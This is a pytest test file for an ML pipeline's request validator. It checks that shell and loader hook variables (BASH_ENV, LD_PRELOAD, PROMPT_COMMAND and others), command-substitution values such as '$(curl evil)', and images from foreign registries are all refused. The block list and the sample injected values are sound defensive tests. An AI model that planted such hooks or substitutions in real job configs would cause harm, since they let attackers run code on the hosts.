"""Requests cannot hook the shell that runs our script, nor run images from foreign registries."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from rlpipe.control.intake import Intake
from rlpipe.control.ledger import Source
from rlpipe.control.settings import Settings
from rlpipe.core.problems import RequestInvalid
from rlpipe.core.request import validate_request
from tests.conftest import Buckets, minimal_request, real_intake

ROOT = Path(__file__).resolve().parents[1]

# Written from bash(1) INVOCATION / Shell Variables and ld.so(8) ENVIRONMENT, not from the code.
HOOKS = [
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "LD_PRELOAD",
    "LD_AUDIT",
    "LD_LIBRARY_PATH",
    "BASH_FUNC_ls",
    "bash_env",
]
ENV_FIELDS = [("training", "command_env"), ("pathways", "env", "workload"), ("pathways", "env", "worker")]


def _with_env(where: tuple[str, ...], env: dict[str, str]) -> dict[str, Any]:
    doc = minimal_request()
    node = doc
    for key in where[:-1]:
        node = node.setdefault(key, {})
    node[where[-1]] = env
    return doc


@pytest.mark.parametrize("name", HOOKS)
@pytest.mark.parametrize("where", ENV_FIELDS, ids=".".join)
def test_shell_and_loader_start_up_variables_are_refused(name: str, where: tuple[str, ...]) -> None:
    with pytest.raises(RequestInvalid) as caught:
        validate_request(_with_env(where, {name: "/tmp/x"}))
    [problem] = [p for p in caught.value.problems if p.path == f"{'.'.join(where)}.{name}"]
    assert "before the pipeline's script runs" in problem.message and problem.fix


@pytest.mark.parametrize("value", ["$(curl evil)", "`id`", "${HOME:?x}", "a$(b)c"])
def test_command_substitution_in_an_env_value_is_refused(value: str) -> None:
    with pytest.raises(RequestInvalid) as caught:
        validate_request(_with_env(("training", "command_env"), {"MY_FLAG": value}))
    assert any(p.path == "training.command_env.MY_FLAG" for p in caught.value.problems)


def test_ordinary_variables_and_values_are_kept() -> None:
    request = validate_request(
        _with_env(("training", "command_env"), {"MY_FLAG": "1", "LIBTPU_INIT_ARGS": "$x-y"})
    )
    assert request.training.command_env["MY_FLAG"] == "1"


# ---- images from allowed registries ------------------------------------------------------------


@pytest.fixture
def intake(buckets: Buckets, executions: Any) -> Intake:
    return real_intake(buckets, executions)


@pytest.mark.parametrize(
    ("field", "image"),
    [
        ("image", "docker.io/library/busybox:1.36"),
        ("image", "us-docker.pkg.dev/cloud-tpu-images-evil/x:1"),
        ("pathways.server_image", "ghcr.io/someone/server:1"),
    ],
)
def test_a_foreign_image_is_refused_at_intake_naming_the_field(
    intake: Intake, executions: Any, field: str, image: str
) -> None:
    doc = minimal_request()
    if "." in field:
        doc.setdefault("pathways", {})[field.split(".")[1]] = image
    else:
        doc[field] = image
    result = intake.submit(yaml.safe_dump(doc).encode(), Source(kind="cli"), f"cli:{field}:{image}")
    assert result.outcome == "rejected"
    assert field in result.detail and "RLPIPE_ALLOWED_IMAGE_PREFIXES" in result.detail
    assert executions.creates() == []


def test_the_tutorials_images_are_allowed_by_default(intake: Intake, executions: Any) -> None:
    result = intake.submit(yaml.safe_dump(minimal_request()).encode(), Source(kind="cli"), "cli:default")
    assert result.outcome == "started"


def test_the_allowed_prefixes_come_from_the_environment_and_terraform_agrees(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RLPIPE_ALLOWED_IMAGE_PREFIXES", "registry.example/ours/, ,other.example/x/")
    assert Settings.from_env().allowed_image_prefixes == ("registry.example/ours/", "other.example/x/")
    text = (ROOT / "infra" / "terraform" / "variables.tf").read_text()
    block = re.search(r'variable "allowed_image_prefixes" \{(.*?)\n\}', text, re.DOTALL)
    assert block
    default = re.search(r"default\s+= (\[.*?\])", block.group(1))
    assert default and tuple(yaml.safe_load(default.group(1))) == Settings().allowed_image_prefixes
